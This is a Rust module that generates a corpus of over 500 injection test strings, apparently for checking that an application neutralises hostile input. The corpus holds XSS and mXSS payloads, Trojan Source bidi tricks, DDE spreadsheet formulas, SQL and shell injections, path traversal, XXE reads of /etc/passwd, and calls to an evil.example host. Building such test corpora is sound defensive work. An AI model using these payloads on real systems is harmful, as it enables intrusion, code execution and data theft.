//! Injections: strings that some program, somewhere, would take for more than words. Made from building blocks, always the
//! same ones in the same order.

use std::collections::BTreeSet;

/// Controls that turn the reading direction round (the nine of "Trojan Source", CVE-2021-42574).
pub const RTL_CONTROLS: [char; 9] =
    ['\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}'];

/// What each injection would do if it ran.
const ACTS: [&str; 6] = [
    "window.__ran=1",
    "alert(document.title=`__ran`)",
    "top.__ran=confirm(1)",
    "fetch('http://127.0.0.1:9/__ran')",
    "location='http://evil.example/__ran'",
    "__TAURI_INTERNALS__.invoke('lock',{request:{}},window.__ran=1)",
];

/// Every injection, each once. At least 500.
#[must_use]
pub fn injections() -> Vec<String> {
    let mut made = Made::default();
    scripts(&mut made);
    handlers(&mut made);
    addresses(&mut made);
    for list in [SHAPES, STYLES, TEMPLATES, MARKDOWN, SPREADSHEETS, ENTITIES, OBJECTS, COMMANDS] {
        list.iter().for_each(|words| made.take((*words).to_owned()));
    }
    invisible(&mut made);
    made.list
}

/// True when reading a paper leaves these words as they are: no control characters, no space that would be tidied away.
#[must_use]
pub fn is_plain(words: &str) -> bool {
    let odd = |c: char| {
        c.is_control()
            || RTL_CONTROLS.contains(&c)
            || "\u{2028}\u{2029}\u{FEFF}\u{F8D3}\u{FDD0}\u{FDD1}\u{FFFE}\u{FFFF}\u{10FFFF}".contains(c)
    };
    !words.contains(odd) && words.trim() == words && !words.contains("  ")
}

/// True when a spreadsheet would take these words for a formula.
#[must_use]
pub fn is_spreadsheet(words: &str) -> bool {
    words.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

#[derive(Default)]
struct Made {
    list: Vec<String>,
    seen: BTreeSet<String>,
}

impl Made {
    fn take(&mut self, words: String) {
        if self.seen.insert(words.clone()) {
            self.list.push(words);
        }
    }
}

fn scripts(made: &mut Made) {
    let ends =
        ["", "\">", "'>", "</title>", "</textarea>", "--!>", "]]>", "</style>", "</noscript>", "*/", "`;", "</script>"];
    for (i, end) in ends.iter().enumerate() {
        for (j, act) in ACTS.iter().enumerate() {
            let tag = [
                "script",
                "SCRIPT",
                "ScRiPt",
                "script/x",
                "script type=module",
                "script async src=//evil.example/x.js",
            ][(i + j) % 6];
            made.take(format!("{end}<{tag}>{act}</script>"));
        }
    }
    for act in ACTS {
        made.take(format!("<script src=\"data:text/javascript,{act}\"></script>"));
        made.take(format!("<scr<script>ipt>{act}</scr</script>ipt>"));
        made.take(format!("';{act};//"));
        made.take(format!("\";{act};//"));
        made.take(format!("\\\";{act};//"));
        made.take(format!("`+({act})+`"));
        made.take(format!("{act}//<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{act}//'>"));
    }
}

fn handlers(made: &mut Made) {
    const TAGS: [&str; 20] = [
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "iframe src=x",
        "object data=x",
        "embed src=x",
        "select autofocus",
        "textarea autofocus",
        "button autofocus",
        "form",
        "math",
        "link rel=stylesheet href=x",
        "a href=# tabindex=1",
        "div contenteditable autofocus",
        "image src=x",
        "xss tabindex=1",
    ];
    const EVENTS: [&str; 9] = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
        "onpointerenter",
        "onbegin",
        "ontransitionend",
    ];
    for (i, tag) in TAGS.iter().enumerate() {
        for (j, event) in EVENTS.iter().enumerate() {
            let act = ACTS[(i + j) % ACTS.len()];
            made.take(match (i + j) % 4 {
                0 => format!("<{tag} {event}={}>", act.replace(' ', "")),
                1 => format!("<{tag} {event}=\"{act}\">"),
                2 => format!("\"><{}/{event}='{}'//", tag.replace(' ', "/"), act.replace('\'', "`")),
                _ => format!("<{} {}=\"{act}\"", tag.to_uppercase(), event.to_uppercase()),
            });
        }
    }
    // Attributes alone, for a place inside a quoted attribute.
    for event in EVENTS {
        made.take(format!("\" autofocus {event}=\"{}\" x=\"", ACTS[0]));
        made.take(format!("' {event}='{}' x='", ACTS[0]));
    }
}

fn addresses(made: &mut Made) {
    const ADDRESSES: [&str; 16] = [
        "javascript:window.__ran=1",
        "JaVaScRiPt:window.__ran=1",
        "java\tscript:window.__ran=1",
        "\u{1}javascript:window.__ran=1",
        "javascript&colon;window.__ran=1",
        "&#106;avascript:window.__ran=1",
        "javascript://%0awindow.__ran=1",
        "vbscript:msgbox(1)",
        "data:text/html,<script>top.__ran=1</script>",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "file:///etc/passwd",
        "tauri://localhost/index.html#__ran",
        "ipc://localhost/lock",
        "page://localhost/x/1/1/600",
        "//evil.example/__ran",
        "http://127.0.0.1:9/__ran",
    ];
    const AROUND: [(&str, &str); 11] = [
        ("<a href=\"", "\">see</a>"),
        ("<iframe src=\"", "\"></iframe>"),
        ("<form action=\"", "\"><input type=submit></form>"),
        ("<button formaction=\"", "\">go</button>"),
        ("<object data=\"", "\"></object>"),
        ("<embed src=\"", "\">"),
        ("<meta http-equiv=refresh content=\"0;url=", "\">"),
        ("<base href=\"", "\">"),
        ("<svg><a xlink:href=\"", "\"><text>x"),
        ("<img src=\"", "\">"),
        ("", ""),
    ];
    for (i, address) in ADDRESSES.iter().enumerate() {
        for (before, after) in AROUND.iter().skip(i % 2).step_by(2).chain(AROUND.iter().skip(10)) {
            made.take(format!("{before}{address}{after}"));
        }
    }
}

/// Words with something in them that shows nothing, or that turns the rest round.
fn invisible(made: &mut Made) {
    for control in RTL_CONTROLS {
        made.take(format!("{control}gnp.exe.yes{control}"));
        made.take(format!("Left{control}<img src=x onerror=window.__ran=1>"));
    }
    made.take("\u{2066}a\u{2069}\u{2069}\u{2069}\u{202E}turned".into());
    made.take("\u{200F}\u{061C}\u{200E}marks".into());
    for (i, odd) in "\u{200B}\u{200D}\u{FEFF}\u{AD}\u{2028}\u{2029}\u{85}\u{FDD0}\u{FDD1}\u{FFFE}\u{FFFF}\u{FFFD}\u{E0001}\u{E000}\u{F8D3}\u{10FFFF}\u{2060}\u{034F}█"
        .chars()
        .enumerate()
    {
        made.take(format!("java{odd}script:window.__ran={i}"));
        made.take(format!("<{odd}script>window.__ran={i}</{odd}script>"));
    }
    made.take("\u{FDD1}\u{FDD0}\u{FDD0}\u{FDD1}\u{FDD1} marks of the index".into());
    made.take(format!("z{}algo", "\u{0301}\u{0336}\u{0489}".repeat(40)));
    made.take("﷽".repeat(30));
    // Last, because a text with too many of these is no text.
    for control in ['\u{0}', '\u{1}', '\u{7}', '\u{8}', '\u{1B}', '\u{7F}', '\u{9B}'] {
        made.take(format!("{control}[2J<script{control}>window.__ran=1</script>"));
    }
}

/// Shapes that an HTML parser mends into something else than was checked (mXSS), and other corners of HTML.
const SHAPES: &[&str] = &[
    "<svg><style><img src=x onerror=window.__ran=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__ran=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__ran=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__ran=1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__ran=1>\">",
    "<template><script>window.__ran=1</script></template>",
    "<xmp><img src=\"</xmp><img src=x onerror=window.__ran=1>\">",
    "<![CDATA[<script>window.__ran=1</script>]]>",
    "<?xml-stylesheet href=\"javascript:window.__ran=1\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "<svg><animate attributeName=href values=javascript:window.__ran=1 /><a id=x><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.__ran=1</script>\"></foreignObject></svg>",
    "<iframe srcdoc=\"&lt;script&gt;parent.__ran=1&lt;/script&gt;\"></iframe>",
    "<portal src=\"http://evil.example/\">",
    "<frameset onload=window.__ran=1>",
    "<plaintext>",
    "<!--",
    "-->",
    "</body></html>",
    "<input name=attributes><input name=nodeName>",
    "<a id=__TAURI_INTERNALS__><a id=__TAURI_INTERNALS__ name=invoke>",
    "<form id=document><input name=body>",
    "<img name=getElementById>",
    "<div id=root></div>",
    "<div id=main>",
    "<p data-modal>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=prefetch href=http://127.0.0.1:9/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<track src=x default>",
    "<b>bold</b>",
    "<strong>x</strong><em>y</em>",
    "<b onmouseover=window.__ran=1>",
    "<script>",
    "</script>",
    "<",
    ">",
    "\"",
    "'",
    "&",
    "\" onclick=\"window.__ran=1",
    "{{constructor.constructor('window.__ran=1')()}}",
    "<x-y is=\"x\">",
    "<slot name=x onslotchange=1>",
];

const STYLES: &[&str] = &[
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://127.0.0.1:9/__ran)}</style>",
    "<div style=\"background:url(javascript:window.__ran=1)\">",
    "<div style=\"width:expression(window.__ran=1)\">",
    "<div style=\"position:fixed;inset:0;z-index:99999;background:white\">Type your passphrase</div>",
    "}*{display:none}",
    "</style><style>body{display:none}",
    "red;background:url(//evil.example/x)",
    "url(javascript:window.__ran=1)",
    "@import url(//x);",
    "<link rel=stylesheet href=\"data:text/css,*{display:none}\">",
    "\\65xpression(window.__ran=1)",
    "-moz-binding:url(//x#y)",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "var(--x);--y:url(//evil.example)",
    "/*</style>*/",
];

const TEMPLATES: &[&str] = &[
    "${window.__ran=1}",
    "#{window.__ran=1}",
    "<%= window.__ran=1 %>",
    "{{7*7}}",
    "{%raw%}{{x}}",
    "*{7*7}",
    "@{7*7}",
    "[[${7*7}]]",
    "{ $name }",
    "{ NUMBER($x) }",
    "{ DATETIME(1) }",
    "{ -term }",
    "{ \"x\" -> *[other] y }",
    "message = { $x }",
    ".attr = x",
    "#eval(\"1+1\")",
    "#read(\"/etc/passwd\")",
    "#include \"/etc/passwd\"",
    "#import \"@preview/x:0.1.0\"",
    "#image(\"/etc/passwd\")",
    "#link(\"http://evil.example\")[x]",
    "#raw(read(\"x\"))",
    "#panic()",
    "#while true {}",
    "]#pagebreak()[",
    "\") #read(\"x\")",
    "$x^2$",
    "@label",
    "<label>",
    "= Heading",
    "/ term: x",
    "\\u{41}",
    "\\begin{document}\\input{/etc/passwd}",
    "\\write18{id}",
    "%(name)s",
    "{0.__class__}",
];

const MARKDOWN: &[&str] = &[
    "[x](javascript:window.__ran=1)",
    "[x](<javascript:window.__ran=1>)",
    "[x](data:text/html,<script>1</script>)",
    "![x](http://127.0.0.1:9/__ran)",
    "![x](x \"onerror=window.__ran=1\")",
    "<javascript:window.__ran=1>",
    "<http://evil.example>",
    "http://evil.example/__ran",
    "www.evil.example/__ran",
    "https://evil.example",
    "mailto:x@evil.example",
    "x@evil.example",
    "[x][1]",
    "[1]: javascript:window.__ran=1",
    "[^1]: note",
    "[^1]",
    "# Heading",
    "## Two",
    "> quote",
    "- item",
    "* item",
    "1. one",
    "1) one",
    "- [x] done",
    "| a | b |",
    "|---|---|",
    "---",
    "***",
    "===",
    "```html",
    "~~~",
    "`code`",
    "    code",
    "**bold**",
    "__bold__",
    "*it*",
    "_it_",
    "~~gone~~",
    "<details open ontoggle=window.__ran=1>",
    "$$x$$",
    "$`x`$",
    ":smile:",
    "\\<b>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "<br>",
    "a\\",
    "[x](page:1:1:0:1)",
    "(page 1)",
    "![[x]]",
    "[[x]]",
    "{#id .class onclick=x}",
    "{{< x >}}",
    "%%comment%%",
    "==mark==",
    "^sup^",
    "+++",
];

const SPREADSHEETS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://127.0.0.1:9/__ran\",\"see\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://127.0.0.1:9/__ran\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "';=1+1",
    ",=1+1",
    "\n=1+1",
    "=IMAGE(\"http://127.0.0.1:9/__ran\")",
    "=INFO(\"directory\")",
    "%0A=1+1",
    "\u{FEFF}=1+1",
];

const ENTITIES: &[&str] = &[
    "&lt;script&gt;window.__ran=1&lt;/script&gt;",
    "&#60;script&#62;window.__ran=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.__ran=1&#x3e;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.__ran=1",
    "＜script＞window.__ran=1＜/script＞",
    "‹script›",
    "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "&NewLine;javascript:1",
    "&Tab;",
    "&nbsp;",
    "&#0;",
    "&#xD800;",
    "&#1114112;",
    "&copy",
    "&notanentity;",
    "=?utf-8?q?=3Cscript=3Ewindow=2E=5F=5Fran=3D1?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
];

const OBJECTS: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "{\"__proto__\":{\"x\":1}}",
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "true",
    "-1e309",
    "1e1000",
    "0x10",
    "Infinity",
    "then",
    "toJSON",
    "$$typeof",
    "dangerously\u{53}etInnerHTML",
    "__html",
    "key",
    "ref",
    "children",
    "__CHANNEL__:1",
    "__TAURI_TO_IPC_KEY__",
    "{\"request\":{}}",
    "{\"$$typeof\":1,\"type\":\"script\"}",
];

const COMMANDS: &[&str] = &[
    "' OR 1=1 --",
    "'; DROP TABLE page; --",
    "\" OR \"\"=\"",
    "* NEAR(x y)",
    "\"unclosed",
    "AND OR NOT",
    "col:x",
    "^x",
    "x*",
    "-x",
    "$(reboot)",
    "`id`",
    "| calc",
    "; id",
    "&& id",
    "%n%n%s%x",
    "%s%s%s%s",
    "../../etc/passwd",
    "..\\..\\x",
    "C:\\Windows\\x",
    "\\\\evil.example\\share",
    "file.pdf\u{202E}fdp.exe",
    "CON",
    "nul.txt",
    "*)(uid=*",
    "<!--#exec cmd=\"id\"-->",
    "() { :;}; id",
    "Content-Type: text/html",
    "{\"a\":1}\n{\"b\":2}",
    "--read-papers",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_enough_and_each_is_there_once() {
        let all = injections();
        assert!(all.len() >= 500, "{}", all.len());
        assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
        assert_eq!(all, injections());
        assert!(all.iter().filter(|w| is_plain(w)).count() >= 500);
        assert!(all.iter().filter(|w| is_spreadsheet(w)).count() >= 15);
    }
}
